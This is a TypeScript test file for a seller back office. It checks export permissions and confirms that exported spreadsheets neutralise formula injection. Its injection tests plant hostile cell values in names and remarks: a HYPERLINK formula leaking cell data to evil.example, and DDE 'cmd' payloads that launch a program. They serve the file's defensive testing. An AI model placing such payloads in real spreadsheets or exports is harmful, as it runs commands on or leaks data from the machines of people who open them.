import { readFileSync } from "node:fs";
import { type Call, codes, contract } from "@sbo/contract";
import { and, eq, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { couponCardPool, couponRule } from "../../domains/coupon/coupon.tables";
import { goods } from "../../domains/goods/goods.tables";
import { role, roleFunction } from "../../domains/identity/identity.tables";
import { shopMember } from "../../domains/member/member.tables";
import { orderInfo } from "../../domains/orders/orders.tables";
import { createStaff } from "../../test/fixtures";
import type { TestApp } from "../../test/harness";
import { demoOwnerApp } from "../../test/sheet-kit";

/*
 * Every export call of the seller back office, in one table: who may export (issue 22, finding 4) and how the text a
 * seller or buyer typed is written (finding 7). A new export belongs here.
 */

let t: TestApp;
let owner: string;
let boId: string;

beforeAll(async () => {
  ({ t, owner, boId } = await demoOwnerApp());
});
afterAll(() => t.close());

let serial = 0;
/** A card rule and a fresh pool of it (a pool exports once), the rule named `ruleName`. */
async function freshPool(ruleName = "Gift card") {
  serial += 1;
  const DAY = 86_400_000;
  const rule = await t.call(
    contract.coupon.addCoupRegular,
    {
      regCode: `X${Date.now().toString(36)}${serial}`.slice(0, 32),
      name: ruleName,
      kind: "card",
      discountType: "amount",
      amount: 500,
      validityType: "fixed",
      validFrom: new Date(Date.now() - DAY).toISOString(),
      validTo: new Date(Date.now() + 30 * DAY).toISOString(),
      totalQuantity: 100,
      perMemberLimit: 1,
    },
    { ticket: owner },
  );
  expect(rule.code, rule.msg).toBe(codes.OK);
  const on = await t.call(contract.coupon.updCoupRegularByRegCode, { regCode: rule.data.regCode, action: "activate" }, { ticket: owner });
  expect(on.code, on.msg).toBe(codes.OK);
  const pool = await t.call(
    contract.cardPool.addCouponCardPoolRegular,
    { ruleId: rule.data.id, name: `Pool ${serial}`, quantity: 2 },
    { ticket: owner },
  );
  expect(pool.code, pool.msg).toBe(codes.OK);
  return pool.data.id;
}

const today = () => new Date().toISOString().slice(0, 10);

interface ExportCase {
  name: string;
  entry: Call;
  /** The screen the list is on: seeing it is not exporting it. */
  screen: string;
  /** The function that exports it. */
  exportFunc: string;
  input: () => Promise<Record<string, unknown>>;
}

const exportsTable: ExportCase[] = [
  {
    name: "goods list",
    entry: contract.goods.exportGoodsList,
    screen: "goods.manage",
    exportFunc: "goods.manage.export",
    input: async () => ({}),
  },
  {
    name: "orders",
    entry: contract.orderDesk.exportOrder,
    screen: "order.manage",
    exportFunc: "order.manage.export",
    input: async () => ({}),
  },
  {
    name: "members",
    entry: contract.member.exportMemberList,
    screen: "setup.rank",
    exportFunc: "setup.rank.export",
    input: async () => ({}),
  },
  {
    name: "password cards",
    entry: contract.cardPool.exportEntityCardsData,
    screen: "marketing.cardPool",
    exportFunc: "marketing.cardPool.export",
    input: async () => ({ id: await freshPool() }),
  },
  {
    name: "statement",
    entry: contract.statement.exportSellerStatement,
    screen: "finance.statement",
    exportFunc: "finance.statement.export",
    input: async () => ({ from: today(), to: today() }),
  },
  // issue 27 §1: the order and finance lists and the staff list, each by an export function of its own
  ...(
    [
      ["after-sales", contract.afterSale.exportAfterSaleList, "order.afterSale", "order.afterSale.export"],
      ["invoices", contract.invoice.exportInvoiceList, "order.invoice", "order.invoice.export"],
      ["reviews", contract.evaluation.exportEvalOrderList, "order.evaluation", "order.evaluation.export"],
      ["pushed sales orders", contract.ordersLive.exportPushList, "order.push", "order.push.export"],
      ["payment vouchers", contract.orderPay.exportPayList, "order.manage.voucher", "order.manage.voucher.export"],
      ["cash flows", contract.finance.exportFlowList, "finance.account", "finance.account.export"],
      ["staff", contract.staff.exportStaffList, "setup.staff", "setup.staff.export"],
    ] as const
  ).map(([name, entry, screen, exportFunc]) => ({ name, entry, screen, exportFunc, input: async () => ({}) })),
  // The audit log is itself an action (`setup.audit`, under the settings home): seeing it is exporting it.
  { name: "audit log", entry: contract.system.exportAuditLog, screen: "setup.home", exportFunc: "setup.audit", input: async () => ({}) },
  // The shop, goods and marketing lists (issue 27 §1).
  {
    name: "coupon rules",
    entry: contract.coupon.exportCouponRuleList,
    screen: "marketing.coupon",
    exportFunc: "marketing.coupon.export",
    input: async () => ({}),
  },
  {
    name: "received coupons",
    entry: contract.coupon.exportCouponList,
    screen: "marketing.coupon",
    exportFunc: "marketing.coupon.records.export",
    input: async () => ({
      regCode: (
        await first(
          t.db
            .select()
            .from(couponRule)
            .where(and(eq(couponRule.boId, boId), eq(couponRule.kind, "coupon")))
            .limit(1),
        )
      ).regCode,
    }),
  },
  {
    name: "promotions",
    entry: contract.promotion.exportList,
    screen: "marketing.promotion",
    exportFunc: "marketing.promotion.export",
    input: async () => ({}),
  },
  {
    name: "suppliers",
    entry: contract.supplier.exportShopSupplierList,
    screen: "shop.supplier",
    exportFunc: "shop.supplier.export",
    input: async () => ({}),
  },
  {
    name: "freight templates",
    entry: contract.freight.exportByParam,
    screen: "goods.freight",
    exportFunc: "goods.freight.export",
    input: async () => ({}),
  },
  {
    name: "shop categories",
    entry: contract.shopCategory.exportShopClassifyList,
    screen: "shop.classify",
    exportFunc: "shop.classify.export",
    input: async () => ({}),
  },
  {
    name: "adverts",
    entry: contract.advert.exportAdvertList,
    screen: "shop.advert",
    exportFunc: "shop.advert.export",
    input: async () => ({}),
  },
  { name: "videos", entry: contract.media.exportPage, screen: "shop.video", exportFunc: "shop.video.export", input: async () => ({}) },
];

const exportAs = async (entry: Call, input: Record<string, unknown>, ticket: string) =>
  t.post(entry.path, input, { ticket, headers: { "accept-language": "en" } });

describe("who may export (issue 22, finding 4)", () => {
  it.each(exportsTable)(
    "when a member who sees the $name but lacks its export function exports it, then 403 naming that function; with it, the file",
    async ({ entry, screen, exportFunc, input }) => {
      const seeing = await createStaff(t, boId, [screen]);
      const refused = await exportAs(entry, await input(), seeing);
      expect(refused.status).toBe(403);
      expect(refused.code).toBe(codes.FORBIDDEN);
      expect(refused.params?.func).toBe(exportFunc);

      const exporting = await createStaff(t, boId, [screen, exportFunc]);
      const file = await exportAs(entry, await input(), exporting);
      expect(file.status).toBe(200);
      expect(String(file.headers["content-type"])).toContain("spreadsheetml");
    },
  );

  it("when the migration runs, then a role that saw a list keeps exporting it, and a role that saw orders does not start", async () => {
    const [r] = await t.db.insert(role).values({ boId, name: "Before the export functions" }).returning();
    if (!r) throw new Error("no role");
    const before = ["goods.manage", "setup.rank", "marketing.cardPool", "finance.statement", "order.manage", "setup.staff"];
    await t.db.insert(roleFunction).values(before.map((funcCode) => ({ roleId: r.id, funcCode })));
    const migration = readFileSync(new URL("../../../drizzle/0030_export_functions.sql", import.meta.url), "utf8");
    await t.db.execute(sql.raw(migration));
    await t.db.execute(sql.raw(migration)); // twice: it adds nothing the second time
    const held = (await t.db.select().from(roleFunction).where(eq(roleFunction.roleId, r.id))).map((f) => f.funcCode).sort();
    expect(held).toEqual(
      [...before, "goods.manage.export", "setup.rank.export", "marketing.cardPool.export", "finance.statement.export"].sort(),
    );
  });

  it("when the demo order clerk (sees and ships orders) exports the orders, then it is refused", async () => {
    const clerk = await t.login("demo-clerk");
    const res = await exportAs(contract.orderDesk.exportOrder, {}, clerk);
    expect(res.status).toBe(403);
    expect(res.params?.func).toBe("order.manage.export");
  });
});

async function cellsOf(entry: Call, input: Record<string, unknown>) {
  const res = await exportAs(entry, input, owner);
  expect(res.status).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(res.data as unknown as ArrayBuffer);
  const values: unknown[] = [];
  book.worksheets[0]?.eachRow((row) => {
    row.eachCell((cell) => {
      values.push(cell.value);
    });
  });
  return values;
}

const first = async <T>(rows: Promise<T[]>): Promise<T> => {
  const [row] = await rows;
  if (!row) throw new Error("no demo row");
  return row;
};

describe("text that a spreadsheet would evaluate (issue 22, finding 7)", () => {
  // OWASP's characters that start a formula, each in the user text of one export.
  const cases: Array<{ name: string; hostile: string; entry: Call; plant: (hostile: string) => Promise<Record<string, unknown>> }> = [
    {
      name: "goods name",
      hostile: '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
      entry: contract.goods.exportGoodsList,
      plant: async (hostile) => {
        const g = await first(t.db.select({ id: goods.id }).from(goods).where(eq(goods.boId, boId)).limit(1));
        await t.db.update(goods).set({ name: hostile }).where(eq(goods.id, g.id));
        return {};
      },
    },
    {
      name: "order's seller remark",
      hostile: "=cmd|' /C calc'!A0",
      entry: contract.orderDesk.exportOrder,
      plant: async (hostile) => {
        const o = await first(t.db.select({ id: orderInfo.id }).from(orderInfo).where(eq(orderInfo.boId, boId)).limit(1));
        await t.db.update(orderInfo).set({ sellerRemark: hostile }).where(eq(orderInfo.id, o.id));
        return {};
      },
    },
    {
      name: "member name",
      hostile: "+1+cmd|' /C calc'!A0",
      entry: contract.member.exportMemberList,
      plant: async (hostile) => {
        const m = await first(t.db.select({ id: shopMember.id }).from(shopMember).where(eq(shopMember.boId, boId)).limit(1));
        await t.db.update(shopMember).set({ name: hostile }).where(eq(shopMember.id, m.id));
        return {};
      },
    },
    {
      name: "card rule name",
      hostile: "@SUM(1+1)*cmd|' /C calc'!A0",
      entry: contract.cardPool.exportEntityCardsData,
      plant: async (hostile) => ({ id: await freshPool(hostile) }),
    },
    {
      name: "audit record (a role's name)",
      hostile: "-2+3+cmd|' /C calc'!A0",
      entry: contract.system.exportAuditLog,
      plant: async (hostile) => {
        const made = await t.call(contract.staff.addRole, { name: hostile, functions: ["goods.manage"] }, { ticket: owner });
        expect(made.code, made.msg).toBe(codes.OK);
        return {};
      },
    },
    {
      name: "order's seller remark starting with a tab",
      hostile: "\t=1+1",
      entry: contract.orderDesk.exportOrder,
      plant: async (hostile) => {
        const o = await first(t.db.select({ id: orderInfo.id }).from(orderInfo).where(eq(orderInfo.boId, boId)).limit(1));
        await t.db.update(orderInfo).set({ sellerRemark: hostile }).where(eq(orderInfo.id, o.id));
        return {};
      },
    },
  ];

  it.each(cases)("when a $name starts a formula, then the export writes it as text behind a quote", async ({ hostile, entry, plant }) => {
    const values = await cellsOf(entry, await plant(hostile));
    expect(values).toContain(`'${hostile}`);
    expect(values).not.toContain(hostile);
  });

  it("when the statement is exported, then its days and figures stay real dates and numbers (no quote)", async () => {
    const values = await cellsOf(contract.statement.exportSellerStatement, { from: "2026-01-01", to: today() });
    expect(values.some((v) => v instanceof Date)).toBe(true);
    expect(values.some((v) => typeof v === "number")).toBe(true);
    expect(values.some((v) => typeof v === "string" && v.startsWith("'"))).toBe(false);
  });

  it("when a pool is exported, then its card numbers stay as they are", async () => {
    const id = await freshPool();
    const values = await cellsOf(contract.cardPool.exportEntityCardsData, { id });
    const pool = await first(t.db.select().from(couponCardPool).where(eq(couponCardPool.id, id)));
    expect(pool.exportedAt).not.toBeNull();
    expect(values.filter((v) => typeof v === "string" && /^[A-Z0-9]{6,}$/.test(v)).length).toBeGreaterThanOrEqual(2);
  });
});
